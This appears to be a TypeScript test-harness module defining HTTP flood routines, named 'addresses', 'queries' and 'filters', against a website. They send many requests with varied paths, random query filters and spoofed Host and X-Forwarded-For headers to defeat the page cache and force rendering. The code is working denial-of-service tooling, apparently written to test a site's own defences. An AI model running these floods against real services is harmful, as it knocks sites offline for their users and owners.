import { Agent, get } from 'node:http'
import { ATTACKER, type Attack, repeat } from './attack.ts'

const pages = ['all-notice', 'all-news', 'about', 'fees', 'career', 'faq', 'contact', 'gallery', 'why-us']
/** Other spellings of an address, each of which was once cached as a separate page. */
const spellings: ((page: string, run: number) => string)[] = [
  (page) => `/%${page.charCodeAt(0).toString(16)}${page.slice(1)}`,
  (page) => `/${page.toUpperCase()}`,
  (page, run) => `${'/'.repeat(2 + (run % 50))}${page}`,
  (page, run) => `/${page}#${run}`,
  (page, run) => `/${page}?utm_source=${run}`,
  (page, run) => `/${page}?title=${run}`,
  (_page, run) => `/nowhere-${run}`,
]

/** 10 connections that request pages by always different addresses and hosts. */
export const addresses: Attack = {
  name: 'addresses',
  what: '10 connections that request pages by always different spellings, queries and Host headers',
  flood: ({ url }, signal) =>
    repeat(10, signal, (run) => {
      const page = pages[run % pages.length] ?? ''
      const path = spellings[Math.floor(run / pages.length) % spellings.length]?.(page, run) ?? '/'
      const headers = {
        host: run % 2 ? `host-${run}.example` : new URL(url).host,
        'x-forwarded-for': ATTACKER,
      }
      return new Promise<void>((resolve, reject) => {
        get(url, { path, headers, signal, agent: false }, (response) => {
          response.resume().once('close', resolve)
        }).once('error', reject)
      })
    }),
}

/** 200 connections that request pages with always different parameters. */
const flooding = (name: string, what: string, addressOf: (run: number) => string): Attack => ({
  name,
  what,
  flood({ url }, signal) {
    const agent = new Agent({ keepAlive: true, maxSockets: 200 })
    return repeat(200, signal, (run) => {
      const path = addressOf(run)
      const headers = { 'x-forwarded-for': ATTACKER, 'accept-encoding': 'br' }
      return new Promise<void>((resolve, reject) => {
        get(url, { path, headers, signal, agent }, (response) => {
          response.resume().once('close', resolve)
        }).once('error', reject)
      })
    })
  },
})

/** No page reads these parameters, so every address is answered from the page cache. */
export const queries = flooding(
  'queries',
  '200 connections that request pages with always different parameters, `?x=1` to `?x=n`',
  (run) => `/${pages[run % pages.length]}?x=${run}`,
)

/** No filter was requested before, so every page is rendered. */
export const filters = flooding(
  'filters',
  '200 connections that request lists with always different filters, `?title=<random>`',
  () => `/all-notice?title=${Math.random().toString(36).slice(2)}`,
)
